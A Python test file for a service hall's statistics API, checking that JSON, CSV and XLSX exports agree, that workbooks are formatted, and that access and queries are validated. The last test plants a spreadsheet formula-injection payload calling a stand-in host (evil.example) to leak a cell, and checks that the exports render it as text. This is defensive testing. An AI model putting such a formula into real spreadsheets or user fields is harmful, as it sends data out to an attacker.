"""The statistics through /api/v1: the JSON, the CSV and the XLSX give the same numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from hallq.present.reports import COLUMNS, HEADER_ROW


def serve_two(api, clock):
    """Two tickets served at window 3; the first rated 5 (非常满意), the second 2 (不满意)."""
    api.post("/windows/3/sign-in", "clerk3")
    for minutes, rating in ((4, {"score": 5}), (9, {"score": 2, "reasons": ["服务态度"]})):
        api.post("/tickets", "device:K1", {"queue": "B"})
        clock.advance(minutes=minutes)
        for step in ("call-next", "start"):
            assert api.post(f"/windows/3/{step}", "clerk3").status_code == 200
        clock.advance(minutes=6)
        assert api.post("/windows/3/finish", "clerk3", {"outcome": "completed"}).status_code == 200
        assert api.post("/windows/3/evaluation", "device:P3", rating).status_code == 201


def test_json_csv_and_xlsx_agree(api, clock):
    serve_two(api, clock)
    summary = api.get("/stats/summary?group_by=window", "manager").get_json()
    assert (summary["issued"], summary["served"]) == (2, 2)
    assert summary["wait"] == {"mean": 390.0, "median": 390.0, "p90": 540.0, "max": 540.0}
    assert summary["handle"] == {"mean": 360.0, "median": 360.0, "p90": 360.0, "max": 360.0}
    [window] = summary["groups"]
    assert (window["window"], window["name"], window["served"]) == (3, "3号出入境窗口", 2)
    for rated in (summary["evaluation"], window["evaluation"]):
        assert (rated["served"], rated["rated"], rated["good_rate"], rated["bad_count"]) == (2, 2, 0.5, 1)
        assert (rated["bad_rate"], rated["active_rate"], rated["rectified_rate"]) == (0.5, 1.0, 0.0)
        assert rated["callback_rate"] == 0.0

    exported = api.get("/stats/export.csv?group_by=window", "manager")
    assert exported.headers["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert table[0][:5] == ["分组", "编号", "名称", "取号数", "办结数"]
    assert table[1][:5] == ["窗口", "3", "3号出入境窗口", "2", "2"]
    assert table[2][:5] == ["合计", "", "", "2", "2"]  # the hall's row, under the groups
    assert table[0][-6:] == ["好评率", "差评数", "差评率", "主动评价率", "整改率", "回访率"]
    assert table[1][-6:] == ["0.5", "1", "0.5", "1.0", "0.0", "0.0"]
    # Durations in minutes with one decimal: waits of 4 and 9 minutes, 6-minute services.
    assert table[0][8:16] == [
        "平均等候(分钟)",
        "等候中位数(分钟)",
        "等候P90(分钟)",
        "最长等候(分钟)",
        "平均办理(分钟)",
        "办理中位数(分钟)",
        "办理P90(分钟)",
        "最长办理(分钟)",
    ]
    assert table[1][8:16] == ["6.5", "6.5", "9.0", "9.0", "6.0", "6.0", "6.0", "6.0"]

    workbook = load_workbook(io.BytesIO(api.get("/stats/export.xlsx", "manager").get_data()))
    assert workbook.sheetnames == ["全厅", "队列", "事项", "部门", "窗口", "工作人员", "图表"]
    sheet = workbook["窗口"]
    assert sheet.freeze_panes == f"D{HEADER_ROW + 1}"
    header = [c.value for c in sheet[HEADER_ROW]]
    for row, group in ((sheet[HEADER_ROW + 1], window), (sheet[HEADER_ROW + 2], summary)):
        values = dict(zip(header, (c.value for c in row), strict=True))
        for column in COLUMNS:
            assert values[column.header] == column.value(group), column.header
    # The CSV's numbers are the JSON's too.
    for line, group in ((table[1], window), (table[2], summary)):
        for column, text in zip(COLUMNS, line[3:], strict=True):
            value = column.value(group)
            assert text == ("" if value is None else str(value)), column.header
    # Every sheet of the workbook is the summary of its grouping, column by column.
    for sheet_name, group_by in (("全厅", None), ("队列", "queue"), ("工作人员", "staff")):
        query = f"?group_by={group_by}" if group_by else ""
        grouped = api.get(f"/stats/summary{query}", "manager").get_json()
        sheet = workbook[sheet_name]
        header = [c.value for c in sheet[HEADER_ROW]]
        lines = list(sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True))
        assert len(lines) == 1 + len(grouped.get("groups") or [])
        for found, group in zip(lines, [*(grouped.get("groups") or []), grouped], strict=True):
            values = dict(zip(header, found, strict=True))
            assert [values[c.header] for c in COLUMNS] == [c.value(group) for c in COLUMNS]


def test_the_workbook_is_one_a_director_can_hand_on(api, clock):
    """Each sheet says whose figures, of which period, made when; its header and totals are
    bold, its figures have number formats and its columns fit their text; a sheet of charts
    draws each grouping from its own sheet's cells."""
    serve_two(api, clock)
    today = clock.now().date().isoformat()
    workbook = load_workbook(io.BytesIO(api.get("/stats/export.xlsx", "manager").get_data()))
    sheet = workbook["窗口"]
    assert sheet["A1"].value == "青山县政务服务中心 统计报表（窗口）" and sheet["A1"].font.bold
    assert sheet["A2"].value == f"统计期间：{today}"
    assert sheet["A3"].value.startswith(f"生成时间：{today} ")
    header = [c.value for c in sheet[HEADER_ROW]]
    window, total = sheet[HEADER_ROW + 1], sheet[HEADER_ROW + 2]
    assert [total[0].value, total[3].value] == ["合计", 2] and all(c.font.bold for c in total)
    formats = {name: cell.number_format for name, cell in zip(header, window, strict=True)}
    assert (formats["取号数"], formats["平均等候(分钟)"], formats["好评率"]) == ("0", "0.0", "0.0%")
    widths = {name: sheet.column_dimensions[chr(ord("A") + i)].width for i, name in enumerate(header[:8])}
    assert widths["名称"] >= len("3号出入境窗口") * 2 and widths["取号数"] >= 8
    charts = workbook["图表"]._charts  # type: ignore[attr-defined]  # openpyxl lists a sheet's charts only there
    assert len(charts) == 5  # 队列, 事项, 部门, 窗口, 工作人员


def test_who_may_read_and_bad_queries(api):
    assert api.get("/stats/summary", "clerk3").status_code == 403
    assert api.get("/stats/summary", "device:K1").status_code == 403
    assert api.get("/stats/summary?group_by=colour", "manager").status_code == 422
    assert api.get("/stats/summary?from=2026-11-30&to=2026-11-01", "manager").status_code == 422
    assert api.get("/stats/summary?from=2026-02-30", "manager").status_code == 422
    empty = api.get("/stats/summary?from=2026-01-01&to=2026-01-31", "manager").get_json()
    assert (empty["issued"], empty["service_level"], empty["group_by"]) == (0, None, None)


def test_a_name_that_looks_like_a_formula_is_text_in_every_export(api, clock):
    trap = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    who = {"name": trap, "badge": "0016", "role": "clerk"}
    assert api.request("PUT", "/staff/clerk3", "manager", who).status_code == 200
    serve_two(api, clock)
    exported = api.get("/stats/export.csv?group_by=staff", "manager").get_data(as_text=True)
    [row] = [r for r in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) if trap in "".join(r)]
    assert "'" + trap in row  # shown as text, not run
    workbook = load_workbook(io.BytesIO(api.get("/stats/export.xlsx", "manager").get_data()))
    cells = [c for row in workbook["工作人员"].iter_rows() for c in row if c.value == trap]
    assert cells and all(c.data_type == "s" for c in cells)
